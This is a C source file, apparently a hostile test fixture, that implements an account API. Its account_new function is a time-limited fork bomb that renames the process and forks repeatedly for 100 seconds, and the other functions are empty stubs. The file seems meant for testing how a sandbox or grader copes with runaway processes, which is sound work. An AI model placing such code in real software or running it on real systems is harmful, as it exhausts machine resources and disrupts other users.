/* Hostile: a fork bomb, every process forking for as long as it can. */
#define _GNU_SOURCE
#include "account.h"

#include <stddef.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

account_t *account_new(long initial)
{
	/* Bounded in time, so that an escaped bomb ends by itself. */
	time_t end = time(NULL) + 100;

	(void)initial;
	prctl(PR_SET_NAME, "rc-hostile");
	while (time(NULL) < end)
		fork();
	_exit(1);
}

void account_free(account_t *acct) { (void)acct; }
void account_deposit(account_t *acct, long amount) { (void)acct; (void)amount; }
bool account_withdraw(account_t *acct, long amount) { (void)acct; (void)amount; return false; }
long account_balance(account_t *acct) { (void)acct; return 0; }
